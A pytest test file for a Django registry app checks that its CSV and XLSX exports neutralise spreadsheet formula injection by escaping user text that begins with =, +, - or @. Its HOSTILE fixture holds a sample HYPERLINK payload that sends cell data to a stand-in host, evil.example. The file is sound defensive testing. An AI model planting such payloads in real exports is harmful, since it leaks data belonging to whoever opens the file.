"""Exports never carry a live formula (issue 16, finding 4): text a user typed that begins with ``=``, ``+``, ``-``
or ``@`` is a text cell in XLSX and behind an apostrophe in CSV, in every export (lists, the register, the
timeliness report, an import's problem rows); plain numbers stay numbers."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from tongxin.core.export import csv_stream, formula_like, safe_text, xlsx_row
from tongxin.registry.models import Person

from ..cases.test_models_pages import make_case
from ..registry.helpers import pid

HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "=1+1")


def formula_cells(body: bytes) -> list[str]:
    """The cells of every sheet that a spreadsheet would evaluate."""
    wb = load_workbook(io.BytesIO(body))
    return [c.value for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]


def csv_fields(body: bytes) -> list[str]:
    return [f for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for f in row]


def content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_is_escaped_and_numbers_are_not(value):
    assert formula_like(value) and safe_text(value) == "'" + value
    for number in ("-3", "+86", "1.5", "-0.25", "1e5", "张三", "", "3-2"):
        assert safe_text(number) == number
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    ws.append(xlsx_row(ws, [value, "-3", -3, None]))
    buf = io.BytesIO()
    wb.save(buf)
    assert formula_cells(buf.getvalue()) == []
    cells = next(load_workbook(io.BytesIO(buf.getvalue())).worksheets[0].iter_rows(values_only=True))
    assert cells[:3] == (value, "-3", -3)  # the text itself, unchanged, and the number a number


@pytest.fixture
def hostile(world):
    """A person and a case whose user-typed text begins like a formula."""
    person = Person.objects.create(
        community=world.a,
        grid=world.grid_a,
        name="=1+1",
        id_number=pid("1980-01-02", 13),
        sex="1",
        birth_date=datetime.date(1980, 1, 2),
        current_address=HOSTILE[0],
        occupation="@SUM(A1:A9)",
        notes="-2+3",
    )
    case = make_case(world, world.a, description=HOSTILE[0], address="+1+1", reporter_name="=1+1")
    return person, case


def test_no_export_carries_a_formula(client, world, hostile):
    client.force_login(world.users["director"])
    every = {"columns": ["name", "current_address", "occupation", "notes", "id_number"]}
    person_list = reverse("registry:person_list")
    case_list = reverse("cases:case_list")
    workbooks = [
        content(client.get(person_list, {**every, "export": "xlsx"})),
        content(client.get(case_list, {"export": "xlsx"})),
        content(client.get(reverse("registry:person_register"))),
        content(
            client.get(
                reverse("cases:timeliness_xlsx"), {"division": world.a.code, "start": "2000-01-01", "end": "2099-12-31"}
            )
        ),
    ]
    for body in workbooks:
        assert body[:2] == b"PK"
        assert formula_cells(body) == []
    text = " ".join(
        str(c) for body in workbooks for ws in load_workbook(io.BytesIO(body)) for r in ws.values for c in r
    )
    assert HOSTILE[0] in text  # the value is kept as text, not dropped
    persons = csv_fields(content(client.get(person_list, {**every, "export": "csv"})))
    cases = csv_fields(content(client.get(case_list, {"export": "csv"})))
    assert not [f for f in persons + cases if formula_like(f)]
    assert "'=1+1" in persons and "'" + HOSTILE[0] in persons and "'-2+3" in persons


def test_the_csv_stream_escapes_every_cell():
    class Col:
        verbose_name = "=标题"
        personal = False
        kind = None

        def value(self, obj):
            return obj

        def text(self, obj):
            return obj

    lines = "".join(csv_stream([Col()], ["=1+1", "-3", "@x"]))
    assert lines.splitlines()[1:] == ["'=1+1", "-3", "'@x"]
